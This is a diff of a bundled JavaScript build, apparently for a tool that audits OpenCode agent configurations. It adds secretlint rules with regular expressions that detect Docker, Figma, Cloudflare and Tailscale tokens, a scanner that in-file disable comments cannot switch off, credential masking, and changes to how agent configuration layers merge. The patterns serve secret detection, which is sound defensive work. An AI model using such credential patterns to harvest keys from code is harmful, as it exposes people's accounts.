+                    context.report({
+                        message: t("DATABRICKS_PERSONAL_ACCESS_TOKEN", {
+                            ID: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$4 = {
+    DOCKER_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Docker Personal Access Token: ${props.TOKEN}`,
+        ja: (props) => `Docker Personal Access Token: ${props.TOKEN} がみつかりました`,
+    },
+};
+function reportIfFoundDockerPAT({ source, options, context, t, }) {
+    // Docker Personal Access Token
+    // Prefix: dckr_pat_ followed by exactly 27 alphanumeric, underscore, or hyphen characters
+    // Reference: https://docs.docker.com/security/access-tokens/
+    // Reference: https://github.com/trufflesecurity/trufflehog/blob/main/pkg/detectors/dockerhub/v2/dockerhub.go
+    const DOCKER_PAT_PATTERN = /(?<!\p{L})dckr_pat_[a-zA-Z0-9_-]{27}(?![a-zA-Z0-9_-])/gu;
+    const results = source.content.matchAll(DOCKER_PAT_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("DOCKER_PERSONAL_ACCESS_TOKEN", {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$5 = {
+    messages: messages$4,
+    meta: {
+        id: "@secretlint/secretlint-rule-docker",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-docker/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$4);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                reportIfFoundDockerPAT({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$3 = {
+    FIGMA_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Figma Personal Access Token: ${props.ID}`,
+        ja: (props) => `Figma Personal Access Token: ${props.ID} がみつかりました`,
+    },
+};
+const creator$4 = {
+    messages: messages$3,
+    meta: {
+        id: "@secretlint/secretlint-rule-figma",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-figma/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$3);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        return {
+            file(source) {
+                // Figma Personal Access Token
+                // Format: `figd_` prefix followed by 40-200 characters of [A-Za-z0-9_-]
+                // Reference: https://docs.github.com/en/code-security/secret-scanning/introduction/supported-secret-scanning-patterns
+                const pattern = /(?<!\p{L})figd_[A-Za-z0-9_-]{40,200}(?![A-Za-z0-9_-])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("FIGMA_PERSONAL_ACCESS_TOKEN", {
+                            ID: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$2 = {
+    CLOUDFLARE_GLOBAL_API_KEY: {
+        en: (props) => `found Cloudflare Global API Key: ${props.TOKEN}`,
+        ja: (props) => `Cloudflare Global API Keyが見つかりました: ${props.TOKEN}`,
+    },
+    CLOUDFLARE_USER_API_TOKEN: {
+        en: (props) => `found Cloudflare User API Token: ${props.TOKEN}`,
+        ja: (props) => `Cloudflare User API Tokenが見つかりました: ${props.TOKEN}`,
+    },
+    CLOUDFLARE_ACCOUNT_API_TOKEN: {
+        en: (props) => `found Cloudflare Account API Token: ${props.TOKEN}`,
+        ja: (props) => `Cloudflare Account API Tokenが見つかりました: ${props.TOKEN}`,
+    },
+};
+const messageIdMap = {
+    cfk: "CLOUDFLARE_GLOBAL_API_KEY",
+    cfut: "CLOUDFLARE_USER_API_TOKEN",
+    cfat: "CLOUDFLARE_ACCOUNT_API_TOKEN",
+};
+// Cloudflare prefixed token format: {prefix}_{40 chars body}{8 chars checksum}
+// The checksum is CRC32 of the body encoded as 8 lowercase hex chars (fixed length).
+// If Cloudflare changes the checksum algorithm, update [0-9a-f]{8} to match the new format.
+// https://developers.cloudflare.com/fundamentals/api/get-started/token-formats/
+const CLOUDFLARE_TOKEN_PATTERN = /(?<!\p{L})(?<prefix>cfk|cfut|cfat)_[A-Za-z0-9]{40}[0-9a-f]{8}(?![A-Za-z0-9])/gu;
+function reportIfFound({ source, options, context, t, }) {
+    const results = source.content.matchAll(CLOUDFLARE_TOKEN_PATTERN);
+    for (const result of results) {
+        const index = result.index ?? 0;
+        const match = result[0] ?? "";
+        const prefix = result.groups?.["prefix"];
+        if (!prefix) {
+            continue;
+        }
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t(messageIdMap[prefix], {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$3 = {
+    messages: messages$2,
+    meta: {
+        id: "@secretlint/secretlint-rule-cloudflare",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-cloudflare/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$2);
+        const normalizedOptions = {
+            allows: options.allows ?? [],
+        };
+        return {
+            file(source) {
+                reportIfFound({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$1 = {
+    TAILSCALE_API_KEY: {
+        en: (props) => `found Tailscale API access token: ${props.KEY}`,
+        ja: (props) => `Tailscale API アクセストークン: ${props.KEY} がみつかりました`,
+    },
+    TAILSCALE_AUTH_KEY: {
+        en: (props) => `found Tailscale pre-authentication key: ${props.KEY}`,
+        ja: (props) => `Tailscale 事前認証キー: ${props.KEY} がみつかりました`,
+    },
+    TAILSCALE_CLIENT_KEY: {
+        en: (props) => `found Tailscale OAuth client key: ${props.KEY}`,
+        ja: (props) => `Tailscale OAuth クライアントキー: ${props.KEY} がみつかりました`,
+    },
+    TAILSCALE_SCIM_KEY: {
+        en: (props) => `found Tailscale SCIM key: ${props.KEY}`,
+        ja: (props) => `Tailscale SCIM キー: ${props.KEY} がみつかりました`,
+    },
+    TAILSCALE_WEBHOOK_KEY: {
+        en: (props) => `found Tailscale webhook key: ${props.KEY}`,
+        ja: (props) => `Tailscale Webhook キー: ${props.KEY} がみつかりました`,
+    },
+    TAILSCALE_KEY: {
+        en: (props) => `found Tailscale key: ${props.KEY}`,
+        ja: (props) => `Tailscale キー: ${props.KEY} がみつかりました`,
+    },
+};
+const messageIdByType = {
+    api: "TAILSCALE_API_KEY",
+    auth: "TAILSCALE_AUTH_KEY",
+    client: "TAILSCALE_CLIENT_KEY",
+    scim: "TAILSCALE_SCIM_KEY",
+    webhook: "TAILSCALE_WEBHOOK_KEY",
+};
+const creator$2 = {
+    messages: messages$1,
+    meta: {
+        id: "@secretlint/secretlint-rule-tailscale",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-tailscale/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$1);
+        const normalizedOptions = {
+            allows: options.allows ?? [],
+        };
+        return {
+            file(source) {
+                // Tailscale keys: tskey-{type}-{identifier}-{secret}
+                // Documented types: api, auth, client, scim, webhook
+                // https://tailscale.com/docs/reference/key-prefixes
+                // GitHub Secret Scanning supports these as Push Protection targets.
+                // TruffleHog uses the equivalent pattern: \btskey-[a-z]+-[0-9A-Za-z_]+-[0-9A-Za-z_]+\b
+                const pattern = /(?<!\p{L})tskey-(?<type>[a-z]{2,20})-[0-9A-Za-z_]{8,40}-[0-9A-Za-z_]{16,60}(?![0-9A-Za-z_])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const type = match.groups?.type ?? "";
+                    const range = [index, index + matchString.length];
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const messageId = messageIdByType[type] ?? "TAILSCALE_KEY";
+                    context.report({
+                        message: t(messageId, {
+                            KEY: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const HTML_COMMENT_REGEXP = /(?<type>secretlint-(?:disable-next-line|disable-line|disable|enable))(?<options>.*)/g;
+const parseComments = (source) => {
+    const matches = source.content.matchAll(HTML_COMMENT_REGEXP);
+    return Array.from(matches).map((match) => {
+        const type = match.groups?.type;
+        const index = match.index;
+        if (type === "secretlint-disable-line") {
+            return {
+                type: type,
+                options: parseComment(match.groups?.options),
+                line: source.indexToPosition(index).line
+            };
+        }
+        if (type === "secretlint-disable-next-line") {
+            return {
+                type: type,
+                options: parseComment(match.groups?.options),
+                line: source.indexToPosition(index).line + 1
+            };
+        }
+        return {
+            type: type,
+            options: parseComment(match.groups?.options),
+            index: index
+        };
+    });
+};
+/**
+ * Parses a config of values separated by comma.
+ *
+ * secretlint-disable a,b,c => ["a", "b", "c"]
+ * secretlint-disable -- comment　=> []
+ */
+function parseComment(options) {
+    if (!options) {
+        return [];
+    }
+    const commentStart = options.indexOf("--");
+    const ruleIdString = commentStart === -1 ? options : options.slice(0, commentStart);
+    return (ruleIdString
+        .split(/,/)
+        .map((arg) => arg.trim())
+        .filter((arg) => arg !== "") ?? []);
+}
+
+class CommentState {
+    source;
+    reportingConfig;
+    endIndex;
+    constructor(source) {
+        this.source = source;
+        this.reportingConfig = [];
+        this.endIndex = source.content.length;
+    }
+    getIgnoringMessages() {
+        const isFilledMessage = (message) => {
+            return message.startIndex !== null && message.endIndex !== null && message.ruleId !== null;
+        };
+        return this.reportingConfig
+            .map((reporting) => {
+            if (reporting.endIndex === null) {
+                // [start, ?= document-end]
+                // filled with document's end
+                reporting.endIndex = this.endIndex;
+            }
+            return reporting;
+        })
+            .filter(isFilledMessage);
+    }
+    disableLine(lineNumber, rulesToDisable) {
+        const reportingConfig = this.reportingConfig;
+        const range = this.source.locationToRange({
+            start: {
+                line: lineNumber,
+                column: 0
+            },
+            end: {
+                line: lineNumber + 1,
+                column: 0
+            }
+        });
+        if (rulesToDisable.length) {
+            rulesToDisable.forEach((ruleId) => {
+                reportingConfig.push({
+                    startIndex: range[0],
+                    endIndex: range[1] - 1,
+                    ruleId: ruleId
+                });
+            });
+        }
+        else {
+            reportingConfig.push({
+                startIndex: range[0],
+                endIndex: range[1] - 1,
+                ruleId: "*"
+            });
+        }
+    }
+    /**
+     * Add data to reporting configuration to disable reporting for list of rules
+     * starting from start location
+     * @returns {void}
+     */
+    disableReporting(startIndex, rulesToDisable) {
+        const reportingConfig = this.reportingConfig;
+        if (rulesToDisable.length) {
+            rulesToDisable.forEach(function (ruleId) {
+                reportingConfig.push({
+                    startIndex: startIndex,
+                    endIndex: null,
+                    ruleId: ruleId
+                });
+            });
+        }
+        else {
+            reportingConfig.push({
+                startIndex: startIndex,
+                endIndex: null,
+                ruleId: "*"
+            });
+        }
+    }
+    /**
+     * Add data to reporting configuration to enable reporting for list of rules
+     * starting from start location
+     */
+    enableReporting(endIndex, rulesToEnable) {
+        const reportingConfig = this.reportingConfig;
+        if (rulesToEnable.length) {
+            rulesToEnable.forEach(function (ruleId) {
+                for (let i = reportingConfig.length - 1; i >= 0; i--) {
+                    if (!reportingConfig[i].endIndex && reportingConfig[i].ruleId === ruleId) {
+                        reportingConfig[i].endIndex = endIndex;
+                        break;
+                    }
+                }
+            });
+        }
+        else {
+            // find all previous disabled locations if they was started as list of rules
+            let prevStart;
+            for (let i = reportingConfig.length - 1; i >= 0; i--) {
+                if (prevStart && prevStart !== reportingConfig[i].startIndex) {
+                    break;
+                }
+                if (!reportingConfig[i].endIndex) {
+                    reportingConfig[i].endIndex = endIndex;
+                    prevStart = reportingConfig[i].startIndex;
+                }
+            }
+        }
+    }
+}
+
+const messages = {
+    IGNORE_MESSAGE: {
+        en: () => `disable by secretlint-disable comment`
+    }
+};
+const creator$1 = {
+    messages,
+    meta: {
+        id: "@secretlint/secretlint-rule-filter-comments",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-filter-comments/README.md"
+        }
+    },
+    create(context) {
+        const t = context.createTranslator(messages);
+        return {
+            file(source) {
+                const state = new CommentState(source);
+                const comments = parseComments(source);
+                for (const comment of comments) {
+                    if (comment.type === "secretlint-disable") {
+                        state.disableReporting(comment.index, comment.options);
+                    }
+                    else if (comment.type === "secretlint-enable") {
+                        state.enableReporting(comment.index, comment.options);
+                    }
+                    else if (comment.type === "secretlint-disable-line") {
+                        state.disableLine(comment.line, comment.options);
+                    }
+                    else if (comment.type === "secretlint-disable-next-line") {
+                        state.disableLine(comment.line, comment.options);
+                    }
+                }
+                state.getIgnoringMessages().forEach((message) => {
+                    context.ignore({
+                        message: t("IGNORE_MESSAGE"),
+                        range: [message.startIndex, message.endIndex],
+                        targetRuleId: message.ruleId
+                    });
+                });
+            }
+        };
+    }
+};
+
+const rules = [
+    creator$s,
+    creator$r,
+    creator$h,
+    creator$q,
+    creator$o,
+    creator$p,
+    creator$g,
+    creator$f,
+    creator$e,
+    creator$d,
+    creator$c,
+    creator$b,
+    creator$n,
+    creator$m,
+    creator$l,
+    creator$k,
+    creator$j,
+    creator$i,
+    creator$a,
+    creator$9,
+    creator$8,
+    creator$7,
+    creator$6,
+    creator$5,
+    creator$4,
+    creator$3,
+    creator$2,
+    creator$1,
+];
+const creator = {
+    meta: {
+        id: "@secretlint/secretlint-rule-preset-recommend",
+        recommended: true,
+        type: "preset",
+    },
+    rules,
+    create(context, _options) {
+        rules.forEach((rule) => {
+            context.registerRule(rule);
+        });
+    },
+};
+
+
+//# sourceMappingURL=index.js.map
+
+;// CONCATENATED MODULE: ./build/adapters/secrets/placeholder.js
+/** `https://user:pass@host`, as documentation writes it: a name and a password that nobody has. */
+function placeholder_isPlaceholder(text) {
+    const match = /^[a-z][a-z0-9+.-]*:\/\/([^:@/\s]*):([^@/\s]*)@/i.exec(text);
+    if (match === null)
+        return false;
+    const [name = '', password = ''] = match.slice(1).map((part) => part.toLowerCase());
+    return name === password || WORDS.test(password);
+}
+const WORDS = /^(?:(?:my|your|the|a|some|db|super)?[-_]?(?:pass|passwd|pwd|pw|password|secret|token|key|api[-_]?key|credentials?)[-_]?(?:here|123)?|x+|\*+|\.+|changeme|example|test|testing|foo|bar|baz|dummy|fake|redacted|hunter2|1234\d*)$/;
+
+;// CONCATENATED MODULE: ./build/adapters/secrets/what.js
+/** What a scanner of secretlint finds, in our words. */
+function whatIs(scanner) {
+    const name = scanner.replace(/^.*secretlint-rule-/, '');
+    return what_WORDS[name] ?? `a credential (${name})`;
+}
+const what_WORDS = {
+    '1password': 'a service account token of 1Password',
+    anthropic: 'an API key of Anthropic',
+    aws: 'a secret access key of AWS',
+    basicauth: 'a user and password in an address',
+    cloudflare: 'an API token of Cloudflare',
+    'database-connection-string': 'a user and password of a database',
+    databricks: 'a token of Databricks',
+    docker: 'an access token of Docker',
+    figma: 'an access token of Figma',
+    gcp: 'a service account key of Google Cloud',
+    github: 'a token of GitHub',
+    gitlab: 'a token of GitLab',
+    grafana: 'a token of Grafana',
+    groq: 'an API key of Groq',
+    'hashicorp-vault': 'a token of Vault',
+    huggingface: 'a token of Hugging Face',
+    linear: 'an API key of Linear',
+    notion: 'a token of Notion',
+    npm: 'a token of npm',
+    openai: 'an API key of OpenAI',
+    privatekey: 'a private key',
+    sendgrid: 'an API key of SendGrid',
+    shopify: 'a token of Shopify',
+    slack: 'a token or webhook of Slack',
+    stripe: 'an API key of Stripe',
+    tailscale: 'a key of Tailscale',
+    vercel: 'a token of Vercel',
+};
+
+;// CONCATENATED MODULE: ./build/adapters/secrets/secret-scanner.js
+
+
+
+
+
+
+/**
+ * secretlint's rules, run by ourselves: only where they found something is taken (their messages hold the
+ * credential), a comment in the file cannot switch them off, and each stops at a bound.
+ */
+function secretScanner() {
+    return {
+        async find(texts) {
+            const found = [];
+            // Most files are the same on both sides.
+            const known = new Map();
+            let since = 0;
+            for (const { path, text } of texts) {
+                const key = `${path}\0${text}`;
+                const list = known.get(key) ?? (await findIn(path, text));
+                known.set(key, list);
+                found.push(list);
+                since += text.length;
+                if (since < BREATH)
+                    continue;
+                since = 0;
+                await (0,external_node_timers_promises_namespaceObject.setImmediate)();
+            }
+            return found;
+        },
+    };
+}
+/** Characters after which others get their turn: a run that is told to end must hear it. */
+const BREATH = 4 * 1024 * 1024;
+/** More of one kind in one text is a list of samples; the first ones block it as well. */
+const MAX_PER_RULE = 500;
+/** In the text itself this can only make the scanner blind. */
+const FILTER = '@secretlint/secretlint-rule-filter-comments';
+const SCANNERS = array(object({
+    meta: object({ id: schemas_string() }),
+    create: custom((value) => typeof value === 'function'),
+}))
+    .parse(rules)
+    .filter(({ meta }) => meta.id !== FILTER);
+async function findIn(path, text) {
+    const found = [];
+    const source = { content: text, filePath: path, ext: (0,external_node_path_.extname)(path) };
+    for (const { meta, create } of SCANNERS) {
+        let count = 0;
+        const report = (one) => {
+            count += 1;
+            if (count > MAX_PER_RULE)
+                throw ENOUGH;
+            const { start, end } = secret_scanner_placeOf(one, text);
+            if (!placeholder_isPlaceholder(text.slice(start, end)))
+                found.push({ start, end, what: whatIs(meta.id) });
+        };
+        const translate = () => (_id, data = {}) => ({ data });
+        const rule = create({ sharedOptions: {}, createTranslator: translate, ignore: () => undefined, report }, {});
+        await runUntilEnough(() => rule.file?.(source));
+    }
+    return found;
+}
+/**
+ * Some scanners give the length of the credential from where the name before it begins: half of it would be seen.
+ * Others take what closes an address, such as a quote, for a part of it.
+ */
+function secret_scanner_placeOf({ range, message }, text) {
+    const length = range[1] - range[0];
+    const value = Object.values(message.data).find((one) => typeof one === 'string' && one.length === length);
+    const at = typeof value === 'string' ? text.indexOf(value, range[0]) : -1;
+    const start = at < 0 ? range[0] : at;
+    const found = text.slice(start, start + length);
+    return {
+        start,
+        end: start + (/^[a-z+:]+:\/\//i.test(found) ? found.replace(/["'`)\]}>,;]+$/, '') : found).length,
+    };
+}
+const ENOUGH = new Error('enough');
+async function runUntilEnough(run) {
+    try {
+        await run();
+    }
+    catch (error) {
+        if (error !== ENOUGH)
+            throw error;
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/mask.js
+
+/**
+ * Whatever quotes a line may quote the credential in it: other rules, and the agent's report. A suggestion that
+ * would have one is dropped, since nobody could apply it masked.
+ */
+function maskOf(secrets) {
+    const values = new Set(secrets.flatMap((secret) => secret.values).flatMap(mask_spellings));
+    if (values.size === 0)
+        return { text: (text) => text, finding: (finding) => finding };
+    const longestFirst = [...values].toSorted((a, b) => b.length - a.length);
+    const pattern = new RegExp(longestFirst.map(mask_literal).join('|'), 'gu');
+    const text = (plain) => plain.replace(pattern, MASK);
+    return { text, finding: (finding) => maskFinding(finding, text) };
+}
+function maskFinding({ suggestion, remedy, ...rest }, mask) {
+    return {
+        ...rest,
+        title: mask(rest.title),
+        message: mask(rest.message),
+        evidence: mask(rest.evidence),
+        ...(remedy === undefined ? {} : { remedy: mask(remedy) }),
+        ...(suggestion === undefined || mask(suggestion) !== suggestion ? {} : { suggestion }),
+    };
+}
+/** As it stands in the file, and as a message quotes it. */
+function mask_spellings(value) {
+    return [value.toWellFormed(), JSON.stringify(value.toWellFormed()).slice(1, -1)];
+}
+/** A pattern that matches exactly this text. */
+function mask_literal(text) {
+    return text.replace(/[\\^$.*+?()[\]{}|]/gu, '\\$&');
+}
+
+;// CONCATENATED MODULE: ./build/opencode/lower-agents.js
+
+
+/** Key of version 2 → key of version 1. What is not here is lost, `permission` and `tools` among it. */
+const KEPT = {
+    description: 'description',
+    mode: 'mode',
+    hidden: 'hidden',
+    color: 'color',
+    steps: 'steps',
+    model: 'model',
+    system: 'prompt',
+    disabled: 'disable',
+};
+/**
+ * The agents of one configuration, as OpenCode 1.18.28 and later read the key `agents` of version 2: an agent that
+ * `agent` has already is not touched, a malformed one is left out, and of the rest only what version 2 knows is kept.
+ */
+function lowerAgents(agents, agent) {
+    if (agents?.kind !== 'object' || (agent !== undefined && agent.kind !== 'object'))
+        return agent;
+    const known = new Set(entriesOf(agent).map((entry) => entry.key));
+    const added = entriesOf(agents).filter((entry) => !known.has(entry.key) && isWellFormed(entry.node));
+    if (agent === undefined && added.length === 0)
+        return undefined;
+    return objectNode(agent?.place ?? agents.place, [...entriesOf(agent), ...added.map(lower)]);
+}
+function isWellFormed(node) {
+    return AGENT_OF_VERSION_2_SCHEMA.safeParse(toValue(node)).success;
+}
+function lower(entry) {
+    const kept = Object.entries(KEPT).flatMap(([from, key]) => {
+        const node = get(entry.node, from);
+        return node === undefined ? [] : [{ key, place: node.place, node }];
+    });
+    return { ...entry, node: objectNode(entry.node.place, kept) };
+}
+
 ;// CONCATENATED MODULE: ./build/opencode/layers.js
 
 
 
 
-function layersByFolder(assets) {
+
+
+function layersByFolder(assets, semantics = PINNED) {
     const folders = new Map();
     for (const asset of assets.toSorted(byPath)) {
         const slot = slotOf(asset);
-        if (slot === null)
+        if (slot === null || (isPlural(asset) && !semantics.pluralFolders))
             continue;
-        const layers = folders.get(asset.folder) ?? { configs: [], dotConfigs: [], agents: [], modes: [] };
+        const layers = folders.get(asset.folder) ?? noLayers();
         folders.set(asset.folder, layers);
         layers[slot].push(asset);
     }
+    if (semantics.winner === 'opencode.json') {
+        for (const { configs, dotConfigs } of folders.values())
+            [configs, dotConfigs].forEach((one) => one.reverse());
+    }
     return folders;
+}
+function noLayers() {
+    return { configs: [], dotConfigs: [], agents: [], modes: [], skills: [] };
+}
+function isPlural({ path, kind }) {
+    return (kind === 'agent' || kind === 'mode') && path.split('/').includes(`${kind}s`);
 }
 /**
  * One configuration for a start in the last folder of `chain` (root first), later layers over earlier ones: the
  * configs from the root down, then the `.opencode` folders from the nearest up to the root. So a `.opencode` at the
  * root wins over a nested one.
  */
-function mergeLayers(chain) {
-    const configs = chain.flatMap((layers) => layers.configs.map(configLayer));
+function mergeLayers(chain, semantics = PINNED) {
+    const layerOf = (asset) => configLayer(asset, semantics);
+    const configs = chain.flatMap((layers) => layers.configs.map(layerOf));
     const dots = chain
         .toReversed()
         .flatMap((layers) => [
-        ...layers.dotConfigs.map(configLayer),
-        ...layers.agents.map((asset) => agentLayer(asset, null)),
-        ...layers.modes.map((asset) => agentLayer(asset, 'primary')),
+        ...layers.dotConfigs.map(layerOf),
+        agentsLayer(layers.agents, null),
+        agentsLayer(layers.modes, 'primary'),
     ]);
     return withModes(mergeDeep([...configs, ...dots]));
 }
@@ -42003,6 +55975,8 @@ function slotOf(asset) {
         return 'agents';
     if (asset.kind === 'mode')
         return 'modes';
+    if (asset.kind === 'skill')
+        return 'skills';
     if (asset.kind !== 'config')
         return null;
     return asset.path.split('/').at(-2) === '.opencode' ? 'dotConfigs' : 'configs';
@@ -42013,13 +55987,14 @@ function byPath(a, b) {
         return 0;
     return a.path < b.path ? -1 : 1;
 }
-function configLayer(asset) {
+function configLayer(asset, semantics) {
     const root = asset.root ?? undefined;
     if (root?.kind !== 'object')
         return undefined;
-    const agent = normaliseEach(mergeDeep([get(root, 'agents'), get(root, 'agent')]));
+    const own = get(root, 'agent');
+    const agent = semantics.newAgents === 'lowered' ? lowerAgents(get(root, 'agents'), own) : own;
     const parts = {
-        agent,
+        agent: normaliseEach(agent),
         mode: normaliseEach(get(root, 'mode')),
         permission: normalisePermission(get(root, 'permission')),
     };
@@ -42029,19 +56004,22 @@ function configLayer(asset) {
         ...Object.entries(parts).flatMap(([key, node]) => layers_entryOf(key, node)),
     ]);
 }
-function agentLayer(asset, mode) {
-    if (asset.root === null)
-        return undefined;
-    const place = placeOfAgent(asset);
-    const body = bodyOf(asset.text ?? '');
-    const forced = [
-        ...(mode === null ? [] : layers_entryOf('mode', scalarNode(place, mode))),
-        ...(body === '' ? [] : layers_entryOf('prompt', scalarNode(place, body))),
-    ];
-    const named = normaliseAgent(objectNode(asset.root.place, [...entriesOf(asset.root), ...forced]));
-    const key = layers_nameOf(asset.root) ?? asset.name;
-    const agents = objectNode(place, [{ key, place, node: named }]);
-    return objectNode(place, layers_entryOf('agent', agents));
+/** The agents of one folder. Two files that make the same agent are not merged: the last one read is the agent. */
+function agentsLayer(assets, mode) {
+    const entries = assets.flatMap((asset) => {
+        if (asset.root === null)
+            return [];
+        const place = placeOfAgent(asset);
+        const body = bodyOf(asset.text ?? '');
+        const forced = [
+            ...(mode === null ? [] : layers_entryOf('mode', scalarNode(place, mode))),
+            ...(body === '' ? [] : layers_entryOf('prompt', scalarNode(place, body))),
+        ];
+        const node = normaliseAgent(objectNode(asset.root.place, [...entriesOf(asset.root), ...forced]));
+        return [{ key: layers_nameOf(asset), place, node }];
+    });
+    const place = entries[0]?.place;
+    return place === undefined ? undefined : objectNode(place, layers_entryOf('agent', objectNode(place, entries)));
 }
 /** Where a reader looks first: what limits the agent, else what it is, else the first line. */
 function placeOfAgent({ root, path }) {
@@ -42049,10 +56027,10 @@ function placeOfAgent({ root, path }) {
     const found = ['permission', 'tools', 'description'].map((key) => entries.find((entry) => entry.key === key));
     return (found.find((entry) => entry !== undefined) ?? entries[0])?.place ?? { path, line: 1, column: 1 };
 }
-/** Front matter may give the agent any name, also one of OpenCode's own. */
-function layers_nameOf(root) {
-    const name = get(root, 'name');
-    return name?.kind === 'scalar' && name.value !== null ? String(name.value) : undefined;
+/** Front matter may give the agent any name, also one of OpenCode's own; JavaScript makes a text of whatever it is. */
+function layers_nameOf({ root, name }) {
+    const given = get(root ?? undefined, 'name');
+    return given === undefined ? name : String(toValue(given));
 }
 function normaliseEach(agents) {
     if (agents?.kind !== 'object')
@@ -42074,6 +56052,320 @@ function layers_entryOf(key, node) {
     return node === undefined ? [] : [{ key, place: node.place, node }];
 }
 
+;// CONCATENATED MODULE: ./build/opencode/repository-folder.js
+/**
+ * The folder below OpenCode's repositories in which it keeps a clone: `github.com/owner/name` for `owner/name`,
+ * `host/path` for anything else. Null for what OpenCode does not take for a remote repository.
+ */
+function repositoryFolder(repository, branch) {
+    const text = repository
+        .trim()
+        .replace(/^git\+/, '')
+        .replace(/#.*$/s, '')
+        .replace(/\/+$/, '');
+    const remote = text === '' ? null : repository_folder_parse(text);
+    if (remote === null || !isHost(remote.host))
+        return null;
+    if (remote.segments.length === 0 || !remote.segments.every(isSegment))
+        return null;
+    if (branch !== undefined && branch !== '' && !isBranch(branch))
+        return null;
+    const folder = [...remote.host.toLowerCase().split(':'), ...remote.segments].join('/');
+    return branch === undefined || branch === '' ? folder : `${folder}@${encodeURIComponent(branch)}`;
+}
+function repository_folder_parse(text) {
+    const short = /^github:([^/\s]+)\/([^/\s]+)$/.exec(text);
+    if (short !== null)
+        return { host: 'github.com', segments: segmentsOf(`${short[1]}/${short[2]}`) };
+    return text.includes('://') ? parseUrl(text) : parseShort(text);
+}
+function parseShort(text) {
+    const scp = /^(?:[^@/\s]+@)?([^:/\s]+):(.+)$/.exec(text);
+    if (scp !== null)
+        return { host: scp[1] ?? '', segments: segmentsOf(scp[2] ?? '') };
+    const segments = segmentsOf(text);
+    const [first = '', ...rest] = segments;
+    if (rest.length > 0 && (/[.:]/.test(first) || first === 'localhost'))
+        return { host: first, segments: rest };
+    return segments.length === 2 ? { host: 'github.com', segments } : null;
+}
+function parseUrl(text) {
+    const url = URL.parse(text);
+    if (url === null || url.protocol === 'file:')
+        return null;
+    return { host: url.host, segments: segmentsOf(url.pathname) };
+}
+function segmentsOf(path) {
+    return path
+        .split('/')
+        .map((segment) => segment.trim().replace(/\.git$/, ''))
+        .filter((segment) => segment !== '');
+}
+function isHost(host) {
+    return host !== '' && !host.startsWith('-') && !/[\s/\\]/.test(host);
+}
+function isSegment(segment) {
+    return segment !== '.' && segment !== '..' && !/[:\s/\\]/.test(segment);
+}
+function isBranch(branch) {
+    return /^[A-Za-z0-9/_.-]+$/.test(branch) && !branch.startsWith('-') && !branch.includes('..');
+}
+
+;// CONCATENATED MODULE: ./build/opencode/shape.js
+
+/** One of these makes the whole file one of version 1, in which the keys of version 2 mean nothing. */
+const KEYS_OF_VERSION_1 = new Set([
+    ...['logLevel', 'server', 'command', 'reference', 'snapshot', 'plugin', 'autoshare', 'disabled_providers'],
+    ...['enabled_providers', 'small_model', 'mode', 'agent', 'provider', 'permission', 'tools', 'attachment'],
+    'layout',
+]);
+/** As which version the part of OpenCode that belongs to version 2 reads a configuration; null when it drops it. */
+function shape_shapeOf(config) {
+    const shape = entriesOf(config).some((entry) => KEYS_OF_VERSION_1.has(entry.key)) ? 1 : 2;
+    const skills = get(config, 'skills');
+    if (skills === undefined || skills.kind === (shape === 1 ? 'object' : 'array'))
+        return shape;
+    return null;
+}
+
+;// CONCATENATED MODULE: ./build/opencode/reference-rules.js
+
+
+
+
+
+/**
+ * `references` opens directories outside the project to every agent: a path, or a clone of a git repository among
+ * OpenCode's data. Of two references with one name the later one counts, at the position of the first.
+ */
+function referenceRules(chain) {
+    const found = new Map();
+    const configs = [
+        ...chain.flatMap((layers) => layers.configs),
